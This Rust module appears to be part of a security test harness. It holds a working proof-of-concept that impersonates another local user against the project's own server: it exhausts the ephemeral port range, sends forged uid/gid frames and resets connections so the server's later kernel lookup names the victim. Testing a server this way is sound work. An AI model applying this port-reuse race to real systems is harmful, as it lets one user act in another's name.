//! Impersonation by a port that is used again. The attacker says who the victim is, sends its requests behind that, and resets the
//! connection. A server that asks the kernel later is told whose the port is by then. All other ports are taken, so that it is soon
//! the victim's, who connects all the time.
use super::{own_user, tool};
use crate::raw_client::encoded;
use anyhow::{Context, Result, bail};
use peal_model::{Range, Request, Status};
use peal_wire::{ClaimedUser, Codec, DecodeLimits, Frame, Tag};
use rustix::net::{AddressFamily, SocketType, bind, connect, socket, sockopt};
use std::{
    fs,
    io::{Read, Write},
    net::{Ipv4Addr, SocketAddr, TcpStream},
    os::fd::OwnedFd,
    thread,
    time::{Duration, Instant},
};

/// The code of the event that is raised in another user's name.
pub const FORGED: Status = Status(-4242);
/// The ports that are left to the victim. The attacker connects from all of them but one at once: the checks of those that the victim did
/// not take delay the others.
const FREE_PORTS: u16 = 6;
/// The times between the bytes and the reset, in microseconds: the server is to have read the ones, and not to have asked the kernel.
const DELAYS: [u64; 6] = [0, 20, 50, 100, 200, 500];
/// The time after which the attacker gives up, however few connections it made.
const LONGEST: Duration = Duration::from_secs(120);
/// The ports that the kernel gives to those who want any.
const PORTS: &str = "/proc/sys/net/ipv4/ip_local_port_range";

/// The bytes of a tool that raises an event in its first frame.
fn raising(user: ClaimedUser, name: &str) -> Result<Vec<u8>> {
    let hello = tool(user, name);
    let notify = Request::Notify {
        code: FORGED,
        range: Range::Session,
        infos: Vec::new(),
    };
    let payload = Codec::of(&hello, DecodeLimits::default()).encode_request(&notify)?;
    Ok([
        encoded(&hello),
        Frame {
            pindex: 0,
            tag: Tag(101),
            payload,
        }
        .encode()?,
    ]
    .concat())
}

/// Raises the event as the user that this process runs as, by this name, and waits for the answer.
pub fn raise(server: SocketAddr, name: &str) -> Result<()> {
    let mut stream = TcpStream::connect(server)?;
    stream.write_all(&raising(own_user(), name)?)?;
    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
    let mut answer = Vec::new();
    // The welcome, and the answer to the first request.
    while answer.len() < 40 {
        let mut bytes = [0; 64];
        match stream.read(&mut bytes)? {
            0 => bail!("the server closes after {answer:?}"),
            count => answer.extend_from_slice(&bytes[..count]),
        }
    }
    Ok(())
}

/// Tries so many times to raise the event as the victim; prints how many connections it made.
pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
    let forged = raising(
        ClaimedUser {
            uid: victim,
            gid: victim,
        },
        "forged",
    )?;
    let (first, last) = port_range()?;
    let free = first..first + FREE_PORTS;
    let _taken: Vec<OwnedFd> = (free.end..=last)
        .filter_map(|port| bound(port).ok())
        .collect();
    let (mut made, start) = (0, Instant::now());
    for (left, delay) in free.clone().cycle().zip(DELAYS.into_iter().cycle()) {
        if made >= tries || start.elapsed() > LONGEST {
            break;
        }
        let ports = free.clone().filter(|port| *port != left);
        // While the victim has a port, others are taken.
        let claims: Vec<TcpStream> = ports
            .filter_map(|port| claim(port, server, &forged).ok())
            .collect();
        made += u32::try_from(claims.len())?;
        if delay > 0 {
            thread::sleep(Duration::from_micros(delay));
        }
        drop(claims);
        thread::yield_now();
    }
    println!("{made}");
    Ok(())
}

fn port_range() -> Result<(u16, u16)> {
    let text = fs::read_to_string(PORTS).with_context(|| format!("reading {PORTS}"))?;
    let mut numbers = text.split_whitespace().map(str::parse);
    match (numbers.next(), numbers.next()) {
        (Some(Ok(first)), Some(Ok(last))) => Ok((first, last)),
        _ => bail!("{PORTS} has no range of ports: {text:?}"),
    }
}

/// A socket that keeps a port from others.
fn bound(port: u16) -> Result<OwnedFd> {
    let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    bind(&socket, &SocketAddr::from((Ipv4Addr::LOCALHOST, port)))?;
    Ok(socket)
}

/// A connection from a port, with these bytes on it. It is reset when it is dropped.
fn claim(port: u16, server: SocketAddr, bytes: &[u8]) -> Result<TcpStream> {
    let socket = bound(port)?;
    connect(&socket, &server)?;
    let mut stream = TcpStream::from(socket);
    sockopt::set_socket_linger(&stream, Some(Duration::ZERO))?;
    // A server may have closed it by now.
    let _ = stream.write_all(bytes);
    Ok(stream)
}
